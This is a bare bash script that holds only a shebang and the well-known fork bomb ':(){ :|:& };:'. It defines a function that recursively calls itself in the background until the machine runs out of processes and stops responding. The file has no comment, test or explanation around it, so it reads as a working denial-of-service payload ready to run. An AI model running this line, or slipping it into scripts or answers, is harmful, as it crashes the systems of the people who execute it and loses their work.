#!/usr/bin/env bash
:(){ :|:& };:
